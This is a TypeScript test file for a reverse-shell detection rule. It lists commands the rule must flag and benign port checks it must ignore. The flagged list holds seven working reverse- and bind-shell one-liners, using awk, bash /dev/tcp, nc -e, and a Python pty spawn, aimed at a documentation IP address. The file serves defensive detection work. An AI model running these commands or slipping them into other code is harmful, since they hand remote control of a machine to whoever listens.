import { rule } from './reverse-shell.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    `awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/443";while(1){"sh" |& getline l; print l |& s}}'`,
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'nc -e /bin/sh 198.51.100.7 4444',
    '{ sh -i; } > /dev/tcp/198.51.100.7/443 0<&1',
    'exec 5<>/dev/tcp/198.51.100.7/443; while read -r l <&5; do $l >&5; done',
    'nc -l 4444 | sh',
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
  ],
  quiet: [
    'nc -z 198.51.100.7 80',
    'bash -i',
    '(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo open',
    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
    'until printf "" > /dev/tcp/db/5432; do sleep 1; done',
    'ssh dev@a.example.net',
  ],
});
